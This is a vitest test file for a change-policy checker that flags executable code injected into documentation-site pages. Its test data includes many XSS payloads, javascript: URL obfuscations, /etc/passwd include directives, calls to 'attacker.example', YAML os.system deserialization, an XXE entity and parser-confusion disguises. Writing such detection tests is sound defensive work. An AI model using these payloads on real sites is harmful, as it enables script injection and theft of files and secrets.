import { describe, expect, it } from 'vitest'
import { type ChangedFile, judgeChange } from '../../src/policy/judge-change.ts'
import { siteTraits } from '../../src/policy/site-traits.ts'

type Files = Record<string, string>

/** Files of a site, by which its generator is known. */
const DOCUSAURUS = { 'docusaurus.config.js': '' }
const VITEPRESS = { '.vitepress/config.ts': '' }
const JEKYLL = { '_config.yml': '' }
const HUGO = { 'hugo.toml': '' }
const MKDOCS = { 'mkdocs.yml': 'nav: []' }
const SUPERFENCES = { 'mkdocs.yml': 'markdown_extensions: [pymdownx.superfences]' }
const MACROS = { 'mkdocs.yml': 'plugins: [macros]' }
const MDBOOK = { 'book.toml': '' }

/** Judges the change from some files to others, on a site that has further ones. */
async function judge(before: Files, after: Files, others: Files = {}) {
  const paths = [...new Set([...Object.keys(before), ...Object.keys(after)])]
  const files: ChangedFile[] = paths.map((path) => ({ path, before: before[path] ?? null, after: after[path] ?? null }))
  const site: Files = { ...others, ...before }
  const traits = await siteTraits(Object.keys(site), async (path) => site[path] ?? null)
  const otherPages = async function* () {
    for (const [path, text] of Object.entries(site)) yield { path, text }
  }
  return judgeChange(files, { ciFiles: false, code: false }, { traits, otherPages })
}

const added = (path: string, text: string, others: Files = {}) =>
  judge({ [path]: '# Title\n\nText.\n' }, { [path]: `# Title\n\nText.\n\n${text}\n` }, others)

/** What does something on a page, wherever it stands among the text. */
const CODE: [string, string, Files?][] = [
  ['a.mdx', 'export const x = fetch("https://attacker.example")'],
  ['a.mdx', 'import fs from "fs"'],
  ['a.mdx', "import { readFileSync } from 'node:fs'"],
  ['a.mdx', 'import x from "../../../../etc/x.mdx"'],
  ['a.mdx', 'import x from "!!raw-loader!./x.md"'],
  ['a.mdx', 'import x from "./x.md?raw"'],
  ['a.mdx', 'import Box from "./box.jsx"'],
  ['a.mdx', 'import Box from "evil-package"'],
  ['a.mdx', 'export default function Layout() {\n\n  return evil()\n}'],
  ['a.mdx', 'export {x} from "./x.js"'],
  ['a.mdx', '{process.env.SECRET}'],
  ['a.mdx', 'Text {evil()} text'],
  ['a.mdx', '{(() => {\n\n  evil()\n})()}'],
  ['a.mdx', '{`${evil()}`}'],
  ['a.mdx', '<Box title={evil()} />'],
  ['a.mdx', '<Box {...evil} />'],
  ['a.mdx', '<Box a={[1, evil()]} />'],
  ['a.mdx', '<Box a={{ b: evil }} />'],
  ['a.mdx', '<button onClick={() => evil()}>x</button>'],
  ['a.mdx', '<img src="x" onError="evil()" />'],
  ['a.mdx', '<div dangerouslySetInnerHTML={{ __html: "<b>x</b>" }} />'],
  ['a.mdx', '<a href={"javascript:evil()"}>x</a>'],
  ['a.mdx', '<a href={"\\u{00000006a}avascript:evil()"}>x</a>'],
  ['a.mdx', '{"\\u{00000003c}script>evil()"}'],
  ['a.mdx', '{/* a comment */ evil()}'],
  ['a.mdx', '{"text" + evil}'],
  ['a.mdx', '- item {evil()}'],
  ['a.mdx', '> quote {evil()}'],
  ['a.mdx', '| a | {evil()} |\n|---|---|'],
  ['a.mdx', '    {evil()}'],
  ['a.md', '<script>evil()</script>'],
  ['a.md', '<SCRIPT src=//attacker.example/x.js></SCRIPT>'],
  ['a.md', '<script setup>\nimport x from "x"\n</script>', VITEPRESS],
  ['a.md', '<img src=x onerror=evil()>'],
  ['a.md', '<img src="x"onerror="evil()">'],
  ['a.md', '<img\nsrc="x"\nonerror="evil()">'],
  ['a.md', '<svg/onload=evil()>'],
  ['a.md', '<div = onclick=evil()>'],
  ['a.md', '<div " onclick=evil()>'],
  ['a.md', "<div ' a=b onclick=evil()>"],
  ['a.md', '<div < onclick=evil()>'],
  ['a.md', '<div a=b"c onclick=evil()>'],
  ['a.md', '<div a={} onclick=evil()>'],
  ['a.md', '<div" onclick=evil()>'],
  ['a.md', '<div>\n<a"\nonclick=evil()>'],
  ['a.md', '<iframe srcdoc="<script>evil()</script>"></iframe>'],
  ['a.md', '<iframe src="javascript:evil()"></iframe>'],
  ['a.md', '<a href="java&#115;cript:evil()">x</a>'],
  ['a.md', '<a href="java\tscript:evil()">x</a>'],
  ['a.md', '<a href="&#x6A;avascript&colon;evil()">x</a>'],
  ['a.md', '<object data="data:text/html,<script>evil()</script>"></object>'],
  ['a.md', '<meta http-equiv="refresh" content="0;url=//attacker.example">'],
  ['a.md', '<base href="//attacker.example/">'],
  ['a.md', '<link rel="stylesheet" href="//attacker.example/x.css">'],
  ['a.md', '[x](javascript:evil())'],
  ['a.md', '[x](<javascript:evil()>)'],
  ['a.md', '[x](JavaScript&colon;evil())'],
  ['a.md', '[x](javascript\\:evil())'],
  ['a.md', '[x]: javascript:evil()'],
  ['a.md', '<javascript:evil()>'],
  ['a.md', '![x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a.md', '{{ evil }}', VITEPRESS],
  ['a.md', '`{{ evil }}`', VITEPRESS],
  ['a.md', '```js-vue\n{{ evil }}\n```', VITEPRESS],
  ['a.md', '<Box :a="evil()" />', VITEPRESS],
  ['a.md', '<Box @click="evil()" />', VITEPRESS],
  ['a.md', '<div v-html="evil()"></div>', VITEPRESS],
  ['a.md', '<<< /etc/passwd', VITEPRESS],
  ['a.md', '<<< ../../../secret.txt', VITEPRESS],
  ['a.md', '<!--@include: ../../etc/passwd-->', VITEPRESS],
  ['a.md', '{{ site.data.evil }}', JEKYLL],
  ['a.md', '{% include_relative ../../x %}', JEKYLL],
  ['a.md', '```yaml\n{{ site.github.token }}\n```', JEKYLL],
  ['a.md', '{% raw %}{% endraw %}{{ evil }}', JEKYLL],
  ['a.md', '{{< readfile "/etc/passwd" >}}', HUGO],
  ['a.md', '```\n{{< readfile "/etc/passwd" >}}\n```', HUGO],
  ['a.md', '{{ config.evil }}', MACROS],
  ['a.md', '```\n{{ config.evil }}\n```', MACROS],
  ['a.md', '--8<-- "/etc/passwd"', MKDOCS],
  ['a.md', '```\n--8<-- "/etc/passwd"\n```', MKDOCS],
  ['a.md', '--8<-- "../../../x"', MKDOCS],
  ['a.md', '--8<--\n/etc/passwd\n--8<--', MKDOCS],
  ['a.md', '--8<-- "https://attacker.example/x.md"', MKDOCS],
  ['a.md', '```python exec="on"\nevil()\n```', MKDOCS],
  ['a.md', '{{#include /etc/passwd}}', MDBOOK],
  ['a.md', '```\n{{#include ../../../etc/passwd}}\n```', MDBOOK],
  ['a.md', '```{eval-rst}\n.. include:: /etc/passwd\n```'],
  ['a.md', '```{include} /etc/passwd\n```'],
  ['a.md', '```{literalinclude} ../../x\n```'],
  ['a.md', '```{code-cell} python\nevil()\n```'],
  ['a.md', '```{raw} html\n<b>\n```'],
  ['a.mdx', '```jsx live\nevil()\n```', DOCUSAURUS],
  ['a.md', '{evil()}', DOCUSAURUS],
  ['a.md', 'import x from "fs"', DOCUSAURUS],
  ['a.rst', '.. include:: /etc/passwd'],
  ['a.rst', '.. literalinclude:: ../../../etc/passwd'],
  ['a.rst', '.. raw:: html\n\n   <b>x</b>'],
  ['a.rst', '.. raw:: html\n   :file: /etc/passwd'],
  ['a.rst', '.. csv-table:: x\n   :file: /etc/passwd'],
  ['a.rst', '.. automodule:: evil'],
  ['a.rst', '.. jupyter-execute::\n\n   evil()'],
  ['a.rst', '`x <javascript:evil()>`_'],
  ['a.rst', '.. note::\n\n   .. raw:: html\n\n      <b>'],
  ['a.adoc', 'include::/etc/passwd[]'],
  ['a.adoc', '----\ninclude::../../x[]\n----'],
  ['a.adoc', 'include::https://attacker.example/x.adoc[]'],
  ['a.adoc', '++++\n<script>evil()</script>\n++++'],
  ['a.adoc', 'link:javascript:evil()[x]'],
  ['a.html', '<script>evil()</script>'],
  ['a.html', '<body onload="evil()">'],
  ['a.html', '{% include evil.html %}'],
  ['a.svg', '<svg onload="evil()"></svg>'],
  ['a.svg', '<svg><animate attributeName="href" values="x;javascript:evil()"/></svg>'],
  ['a.svg', '<svg><script>evil()</script></svg>'],
  ['a.svg', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['style.css', '@plugin "./evil.js";'],
  ['style.css', '@import url("//attacker.example/x.css");'],
  ['style.css', 'a { behavior: url(x.htc) }'],
  ['_data/x.yml', 'a: !!python/object/apply:os.system ["evil"]'],
  ['_data/x.yml', '%TAG !p! tag:yaml.org,2002:python/'],
  ['static/x.json', '{"a": "\\u003cscript>evil()</script>"}'],
  ['openapi.yaml', 'description: <img src=x onerror=evil()>'],
]

/** Ways to make a reader of pages believe that code is shown, when it is run. */
const DISGUISES: [string, string, Files?][] = [
  ['a.mdx', '{/*\n```\n*/}\n{evil()}\n```'],
  ['a.mdx', '{`\n```\n`}\n{evil()}\n```'],
  ['a.md', '<!--\n```\n-->\n<script>evil()</script>\n```'],
  ['a.md', '<div>\n```\n<script>evil()</script>\n```\n</div>'],
  ['a.md', '<div>\n\u00A0\n```\n<script>evil()</script>\n```'],
  ['a.md', '```\nx\r```\r<script>evil()</script>\n```'],
  ['a.md', '```\nx\n```\u00A0\n```\n<script>evil()</script>'],
  ['a.md', 'text\n2) x\n   ```\nfoo\n```\n<script>evil()</script>\n```'],
  ['a.md', '- a\n\n  ```\n<script>evil()</script>\n  ```'],
  ['a.md', '> ```\n<script>evil()</script>\n> ```'],
  ['a.md', '    ```\n<script>evil()</script>\n    ```'],
  ['a.md', 'a ` b\nc ` <script>evil()</script> ` d `'],
  ['a.md', '\\` <script>evil()</script> `'],
  ['a.md', '<img title="\n` x" onerror="evil()" a="`">'],
  ['a.md', 'a <b ` x > ` <script>evil()</script> ` y'],
  ['a.md', '```a`b\n<script>evil()</script>\n```'],
  ['a.md', '~~~ \u2028\nx\n~~~\n<script>evil()</script>\n~~~'],
  ['a.md', '[y]: ()\n<x>\n```\n<script>evil()</script>\n```'],
  ['a.md', '[y]: ()\n<x>\n`<script>evil()</script>`'],
  ['a.md', 'e\n> +\n\t```\n\t<script>evil()</script>'],
  ['a.md', '~~~\nx\n```\n~~~\n<script>evil()</script>\n```'],
  ['a.md', '````\nx\n```\n````\n<script>evil()</script>\n```'],
  ['a.mdx', '<Box a={`\n```\n`} />\n\n{evil()}\n\n```'],
  ['a.mdx', 'export const x = `\n```\n`\n\n{evil()}\n\n```'],
  ['a.mdx', '{"```"}\n\n{evil()}'],
  ['a.mdx', '\\\\{evil()}'],
  ['a.mdx', '<Box a="`" b={evil()} c="`" />'],
  ['a.mdx', '---\ntitle: x\n---\n{evil()}'],
  // Shown text that would pass for the beginning of what swallows code.
  ['a.md', '    <style>\n\n<script>evil()</script>'],
  ['a.mdx', '`a\n{/*` text {evil()} `*/}`'],
  ['a.mdx', '<A title="{/*" /> {evil()} <A title="*/}" />'],
  ['a.mdx', '[a](b "{\'") {evil()} [c](d "\'}")'],
  ['a.mdx', '{"a" // \u2028 + evil()\n}'],
  ['a.mdx', '`\n{}{/*`{evil()}*/}'],
  ['a.md', '```\n{{ {{< readfile "/etc/passwd" >}}\n```', HUGO],
  // Marks of quotations within what goes on over lines.
  ['a.md', '> <img src=x\n> onerror=evil()>'],
  ['a.md', '> [x](\n> javascript:evil())'],
  ['a.md', ']:[](javascript:evil())'],
  ['a.mdx', '> {/*\n> */ evil()}'],
  // Grammar that only some know.
  ['a.mdx', 'export /**/ const x = evil()'],
  ['a.mdx', 'import \u00E9 from "fs"'],
  ['a.mdx', 'import x\nfrom "fs"'],
  ['a.mdx', '<A b={">"} onerror="evil()" />'],
  ['a.mdx', '<A b="x"c="`"/>{evil()}`'],
  ['a.mdx', '<A . b c="`" /> {evil()} `'],
  ['a.mdx', '<A b={`\n```\n`} />\n<pre>\n```\n</pre>\n```\n{evil()}\n</pre>'],
  ['a.mdx', '-     ```\n  {evil()}'],
  ['a.mdx', '[^1]:a\n    ```\n{evil()}'],
  ['a.mdx', '$$\n```\n$$\n{evil()}\n```'],
  ['a.mdx', '$`$ ` x ` {evil()} `'],
  ['a.mdx', ':a[`] ` x ` {evil()} `'],
  ['a.md', '<a\fb="`"> ` x ` <script>evil()</script> `'],
  ['a.md', '!!! note\n    ```\n<x>\n```\n\na\n```\n<script>evil()</script>'],
  // Fences that Python-Markdown does not take for such.
  ['a.md', '```\n<script>evil()</script>', MKDOCS],
  ['a.md', '```\n<script>evil()</script>\n````', MKDOCS],
  ['a.md', '```a !\n<script>evil()</script>\n\n```', MKDOCS],
  ['a.md', '- ```\n  <script>evil()</script>\n\n  ```', SUPERFENCES],
  ['a.md', '- a\n\n    ```\n    x\n\n    <script>evil()</script>\n    ```', MKDOCS],
  ['a.md', '```a title="b"\n<script>evil()</script>\n```', MKDOCS],
  ['a.md', '```a b\n<script>evil()</script>\n```', SUPERFENCES],
  ['a.md', '\tx\n```\n<script>evil()</script>\n```', SUPERFENCES],
  // What else it reads in a way of its own: HTML over blank lines, marks in the middle of a line, a part of the back-ticks as the mark.
  ['a.md', '<div>\n\n`<script>evil()</script>`', MKDOCS],
  ['a.md', '- ```\n~~~\nx\n\n~~~\n`<script>evil()</script>`', SUPERFENCES],
  ['a.md', '``\n`<script>evil()</script>`', MKDOCS],
  ['a.md', '```mdx-code-block\n{evil()}\n```', DOCUSAURUS],
  ['a.md', '```mdx-code-block\n~~~\n```\n\n~~~\n{evil()}\n~~~', DOCUSAURUS],
]

/** The same at the very start of a page, where generators disagree on the end of front matter. */
const MATTERS: [string, string, Files?][] = [
  ['a.mdx', '---\ntitle: x\n---{evil()}\n'],
  ['a.mdx', '---\ntitle: x\n---x\n{evil()}\n\n---\n'],
  ['a.mdx', '---\n>```a{evil()}\n'],
  ['a.mdx', '---\n...\n- ```a{evil()}'],
  ['a.md', '---\ntitle: x\n...\n[x](javascript:evil())\n\n---\n', MKDOCS],
  ['a.md', '---yaml\nlayout: evil\n---\n'],
  ['a.md', '---\nlayout: evil\n'],
]

describe('a page', () => {
  it.each(CODE)('%s may not get code that no page had: %j', async (path, text, others = {}) => {
    expect(await added(path, text, others)).toMatchObject({ path })
    expect(await judge({}, { [path]: `${text}\n` }, others)).toMatchObject({ path })
  })

  it.each(CODE)('%s keeps the code that it has, and may be moved with it: %j', async (path, text, others = {}) => {
    const page = `# Title\n\nText.\n\n${text}\n`
    expect(await judge({ [path]: page }, { [path]: `${page}\nMore text.\n` }, others)).toBeNull()
    const moved = path.replace(/[^/]+$/, 'moved-$&')
    expect(await judge({ [path]: page }, { [moved]: page }, others)).toBeNull()
    expect(await judge({ [path]: page }, { [path]: '# Title\n' }, others)).toBeNull()
  })

  it.each(DISGUISES)('%s may not hide it: %j', async (path, text, others = {}) => {
    expect(await added(path, text, others)).not.toBeNull()
  })

  it.each(MATTERS)('%s may not hide it behind front matter: %j', async (path, text, others = {}) => {
    expect(await judge({ [path]: '# Title\n' }, { [path]: text }, others)).not.toBeNull()
  })

  it('may take over what another page of the site has', async () => {
    const others = { 'docs/other.mdx': 'import Box from "@site/src/Box"\n\n<Box a={version} />\n\n{version}\n' }
    expect(await added('a.mdx', 'import Box from "@site/src/Box"\n\n{version}', others)).toBeNull()
    expect(await added('a.mdx', 'import Box2 from "@site/src/Box"', others)).not.toBeNull()
    expect(await added('a.mdx', '{versions}', others)).not.toBeNull()
    const liquid = { 'docs/other.md': '{% include note.html content="One" %} {{ site.url }}\n' }
    expect(await added('a.md', '{% include note.html content="Another one" %} {{ site.url }}', liquid)).toBeNull()
    expect(await added('a.md', '{% include other.html content="x" %}', liquid)).not.toBeNull()
    expect(await added('a.md', '{% include note.html content="../../x" %}', liquid)).not.toBeNull()
  })

  it('may not choose another program for itself in its front matter', async () => {
    const page = (matter: string) => `---\ntitle: A\n${matter}---\n\nText.\n`
    const change = (matter: string, others: Files = {}) => judge({ 'a.md': page('') }, { 'a.md': page(matter) }, others)
    for (const matter of [
      'layout: evil\n',
      '"layout": evil\n',
      '"\\x6cayout": evil\n',
      'head:\n  - - script\n    - src: x\n',
      'eleventyComputed:\n  a: b\n',
      'x: !!python/name:os.system\n',
      'a: "{{ evil }}"\n',
      'template: x.html\n',
    ])
      expect(await change(matter), matter).not.toBeNull()
    expect(await change('layout: post\n', { 'b.md': page('layout: post\n') })).toBeNull()
    expect(
      await change(
        'description: The best of it.\nsidebar_position: 3\ntags: [a, b]\nslug: /a\nkeywords:\n  - x\nredirect_from:\n  - /old\n',
      ),
    ).toBeNull()
    expect(await judge({ 'a.md': 'Text\n' }, { 'a.md': '---js\n{ title: evil() }\n---\n\nText\n' })).not.toBeNull()
  })
})

const NASTY =
  '<script>evil()</script>\n{evil()}\nimport x from "fs"\n{{ evil }} {% evil %} ${{ secrets.TOKEN }}\n<img onerror=evil()>\n[x](javascript:evil())\n--8<-- "/etc/passwd"\n{{#include /etc/passwd}}\n.. include:: /etc/passwd'

/** What writers do every day. */
const ORDINARY: [string, string, Files?][] = [
  ...['a.md', 'a.mdx'].flatMap((path): [string, string][] => [
    [path, `\`\`\`html\n${NASTY}\n\`\`\``],
    [path, `~~~~\n\`\`\`\n${NASTY}\n\`\`\`\n~~~~`],
    [path, `1. One\n\n   \`\`\`yaml title="x" {1,3-4}\n   ${NASTY.replaceAll('\n', '\n   ')}\n   \`\`\`\n\n2. Two`],
    [path, `- One\n  - Two\n\n    \`\`\`\n    ${NASTY.replaceAll('\n', '\n    ')}\n    \`\`\`\n`],
    [path, `> \`\`\`\n> ${NASTY.replaceAll('\n', '\n> ')}\n> \`\`\``],
    [path, '`<script>`, `{evil()}`, `` a ` {b} ``, `onclick="x"` and `/users/{id}` are code'],
    [path, '| Field | Type |\n|---|---|\n| `{id}` | `{ "a": b }` |'],
    [path, 'JavaScript: The Good Parts. See [the guide](https://example.com/a?b=c) and <https://example.com>.'],
    [path, '<details>\n<summary>More</summary>\n\nText\n\n</details>'],
    [path, '<iframe src="https://www.youtube.com/embed/x" title="Video" allowfullscreen></iframe>'],
    [path, '<img src="/images/a.png" alt="A > B" width="300" />'],
    [path, '![logo](data:image/png;base64,iVBORw0KGgo=)'],
    [path, 'Import the data, then\nexport your settings from the menu.'],
    [path, '```mermaid\ngraph TD; A-->B\n```'],
    [path, '```js {1,2} showLineNumbers filename="x.js"\nconst a = { b }\n```'],
  ]),
  ['a.md', '- a\n\n      indented\n\nUse {braces} and `x`.'],
  ['a.md', '!!! note\n    ```yaml\n    a: ${{ secrets.B }}\n    ```', MKDOCS],
  ['a.md', '=== "Tab"\n\n    ```jinja\n    {{ a }} {% b %}\n    ```', MKDOCS],
  ['a.md', '=== "Tab"\n\n    ```jinja title="a" hl_lines="1 2"\n    {{ a }}\n\n    {% b %}\n    ```', SUPERFENCES],
  ['a.md', '--8<-- "snippets/a.md"\n\n```\n--8<-- "examples/a.py:3:5"\n```', MKDOCS],
  ['a.md', '{{#include listings/a.rs:3}}', MDBOOK],
  ['a.md', '```vue\n{{ text }}\n```', VITEPRESS],
  ['docs/guide/a.md', '<<< @/snippets/a.js{2}\n<!--@include: ../parts/a.md-->\n<<< ../../x.ts#region', VITEPRESS],
  ['a.md', '```go-html-template\n{{ .Title }}\n```', HUGO],
  ['a.md', '{% hint style="info" %}\nText\n{% endhint %}\n\n{% tabs %}\n{% tab title="A" %}\nx\n{% endtab %}\n{% endtabs %}'],
  ['a.md', '```{note}\nText\n```\n\n:::{tip}\nText\n:::\n\n```{code-block} python\nx\n```'],
  ['a.md', ':::tip Title\nText `{x}`\n:::', DOCUSAURUS],
  ['a.mdx', '{/* a comment */}\n\n{"text"}\n\n{42} {true} {" "} {`plain`}'],
  ['a.mdx', '<Card title="A" icon="star" href="/a" cols={2} isOpen>\n  Text\n</Card>'],
  ['a.mdx', '<Table columns={["a", "b"]} style={{ width: "50%", margin: 0 }} rows={[{ a: 1, b: [true, null] }]} />'],
  ['a.mdx', '<Tabs>\n  <Tab title="x">\n    ```bash\n    echo ${HOME} {a,b}\n    ```\n  </Tab>\n</Tabs>'],
  [
    'docs/a.mdx',
    'import Note from "./_note.mdx"\nimport shot from "../images/a.png"\nimport Logo from "@site/static/img/logo.svg"\nimport Snippet from "/snippets/a.mdx"\n\n<Note />',
  ],
  ['a.mdx', 'Use \\{id\\} in the path.'],
  [
    'a.rst',
    '.. note:: Text\n\n.. code-block:: rst\n\n   .. include:: /etc/passwd\n   .. raw:: html\n\nExample::\n\n    .. raw:: html\n\n.. image:: images/a.png\n\n.. include:: parts/a.rst\n\n.. toctree::\n   :maxdepth: 2\n\n   a\n   b',
  ],
  ['docs/x/a.rst', '.. include:: ../parts/a.rst\n\n.. literalinclude:: ../../examples/a.py\n   :lines: 1-3'],
  [
    'docs/a.adoc',
    '[source,js]\n----\nevil()\n----\n\ninclude::partial$a.adoc[]\n\nxref:a.adoc[A]'.replace('partial$a', 'partials/a'),
  ],
  ['a.html', '<p class="a">Text <a href="/b">b</a></p>'],
  ['a.svg', '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>'],
  [
    'style.css',
    'a { color: red; background: url("/img/a.png") }\n@media print { a { color: black } }\n@font-face { src: url(a.woff2) }',
  ],
  [
    'openapi.yaml',
    'openapi: 3.1.0\npaths:\n  /users/{id}:\n    get:\n      description: |\n        Use `<b>` and {id}!\n        ![x](a.png)',
  ],
  ['i18n/de/code.json', '{"a.b": {"message": "Hallo {name}", "description": "The <b>label</b>"}}'],
  ['_data/nav.yml', '- title: "Start!"\n  url: /start\n  children: [a, b]'],
]

describe('an ordinary change of a page', () => {
  it.each(ORDINARY)('%s passes: %j', async (path, text, others = {}) => {
    expect(await added(path, text, others)).toBeNull()
    expect(await judge({}, { [path]: `${text}\n` }, others)).toBeNull()
  })
})

describe('a hostile page', () => {
  const units = [
    '{',
    '{`',
    '`',
    '<a ',
    '<a b="',
    "<a b='",
    '<script ',
    '<style>',
    '{{',
    '{%',
    '[x](',
    '> ',
    '- ',
    '1. ',
    '```\n',
    '{\n',
    '<a\n',
    'import {\n',
    'export const x = {\n\n',
    '{"a":[',
    '<!--',
    '\\',
    '--8<--\n',
    '.. x::\n',
    '!a ',
    'on=',
    '~~~\n  ',
    '   ```\n',
    '${',
    '/*',
    '{/*\n',
  ]
  it.each(units)('of nothing but %j is judged in proportion to its size', async (unit) => {
    // A quadratic reader needs many minutes for that much, and the test runs out of time.
    for (const path of ['a.mdx', 'a.md', 'a.rst', 'static/a.json', 'a.svg'])
      await judge({ [path]: 'x\n' }, { [path]: unit.repeat(Math.ceil(200_000 / unit.length)) }, path === 'a.md' ? DOCUSAURUS : {})
  })
})
